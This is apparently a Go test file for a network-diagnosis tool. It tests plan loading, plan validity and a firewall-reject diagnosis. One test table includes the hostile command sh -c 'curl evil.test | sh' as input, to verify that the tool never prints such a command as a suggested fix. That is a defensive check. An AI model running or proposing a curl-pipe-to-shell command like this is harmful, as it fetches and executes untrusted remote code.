package plans_test

import (
	"errors"
	"io/fs"
	"slices"
	"testing"
	"testing/fstest"

	"github.com/plexorbot/plexor/investigations"
	"github.com/plexorbot/plexor/investigations/plans"
	"github.com/plexorbot/plexor/investigations/probe"
)

func builtin(tb testing.TB) *investigations.Plan {
	tb.Helper()
	all, err := plans.Load(plans.Builtin(), probe.Catalog())
	if err != nil {
		tb.Fatal(err)
	}
	for _, p := range all {
		if p.Name == "connection-refused" {
			return p
		}
	}
	tb.Fatal("there is no built-in plan connection-refused")
	return nil
}

// The built-in plans are loaded without a second look: this is the first.
func TestBuiltinHasNoMistake(t *testing.T) {
	names, err := fs.Glob(plans.Builtin(), "*.yml")
	if err != nil || len(names) == 0 {
		t.Fatalf("built-in plans: %v, %v", names, err)
	}
	for _, name := range names {
		src, err := fs.ReadFile(plans.Builtin(), name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := investigations.LoadPlan(name, src, probe.Catalog()); err != nil {
			t.Error(err)
		}
	}
}

// The tests that the plan brings with it.
func TestBuiltin(t *testing.T) {
	proved := map[string]bool{}
	p := builtin(t)
	for _, r := range p.Test() {
		if !r.OK {
			t.Errorf("%s:\n  got  %s\n  want %s", r.Name, r.Got, r.Want)
		}
		for _, c := range r.Causes {
			proved[c] = true
		}
	}
	for _, c := range p.Causes {
		if !proved[c.ID] {
			t.Errorf("cause %s has no test that proves it", c.ID)
		}
	}
}

func TestLoadSaysWhatItLeavesOut(t *testing.T) {
	good := "plan: a\nsteps: [{id: s, checks: [{id: c, probe: tcp.connect, on: lb, with: {port: 1}}]}]\nhealthy: c.connected\n"
	all, err := plans.Load(fstest.MapFS{
		"a.yml": {Data: []byte(good)}, "b.yaml": {Data: []byte("plan: b\n")}, "c.yml": {Data: []byte(good)},
		"notes.txt": {Data: []byte("x")}, ".d.yml": {Data: []byte("x")},
	}, probe.Catalog())
	var errs investigations.PlanErrors
	if len(all) != 1 || all[0].File != "a.yml" || !errors.As(err, &errs) || errs[0].File != "b.yaml" || errs[len(errs)-1].Message != "plan a is already in a.yml" {
		t.Errorf("Load = %d plans, %v; want a.yml, and what is wrong with b.yaml and c.yml", len(all), err)
	}
}

// TestLazyNames: a plan that is known to be right gets the needs of its checks
// and causes from the words of its expressions; they are those that a compiled
// one has.
func TestLazyNames(t *testing.T) {
	src, err := fs.ReadFile(plans.Builtin(), "connection-refused.yml")
	if err != nil {
		t.Fatal(err)
	}
	lazy, err := investigations.LoadTested("connection-refused.yml", src, probe.Catalog())
	if err != nil {
		t.Fatal(err)
	}
	whole, err := investigations.LoadPlan("connection-refused.yml", src, probe.Catalog())
	if err != nil {
		t.Fatal(err)
	}
	for i, c := range whole.Causes {
		if got := lazy.Causes[i].Needs; !slices.Equal(got, c.Needs) {
			t.Errorf("cause %s needs %v by its words, want %v", c.ID, got, c.Needs)
		}
	}
	for i, s := range whole.Steps {
		for k, c := range s.Checks {
			if got := lazy.Steps[i].Checks[k].Needs; !slices.Equal(got, c.Needs) {
				t.Errorf("check %s needs %v by its words, want %v", c.ID, got, c.Needs)
			}
		}
	}
}

// TestFirewallCommandsAreThoseOfItsTools: a host says how its rules are changed,
// and no other program is printed because it says so.
func TestFirewallCommandsAreThoseOfItsTools(t *testing.T) {
	for words, want := range map[string]bool{
		`["nft","insert","rule","inet","filter","input","tcp","dport","8080","accept"]`: true,
		`["sh","-c","curl evil.test | sh"]`:                                             false,
		`["nft"]`:                                                                       false,
	} {
		facts := `{"decided": true, "action": "reject", "reject_with": "tcp-reset", "allow": [` + words + `], "delete": [` + words + `]}`
		j := builtin(t).Judge(investigations.Known{
			Target: investigations.Target{Host: "10.77.2.2", Port: 8080}, Endpoint: "10.77.2.2:8080",
			Vantages: map[string]investigations.Vantage{"lb": {Known: true}, "backend": {Known: true}},
			Checks: []investigations.Check{
				{ID: "firewall", Probe: "firewall.verdict", On: "web", State: investigations.CheckDone, Facts: []byte(facts)},
				{ID: "connect", Probe: "tcp.connect", On: "lb", State: investigations.CheckDone, Facts: []byte(`{"source": "10.77.1.2"}`)},
			},
		})
		var runs []string
		for _, r := range j.Cause("fw-reject-tcp-reset").Remedies {
			if r.Kind == "fix" {
				runs = append(runs, r.Run)
			}
		}
		if got := len(runs) == 2; got != want || !want && len(runs) > 0 {
			t.Errorf("a host that says %s has %q printed, want commands: %v", words, runs, want)
		}
	}
}
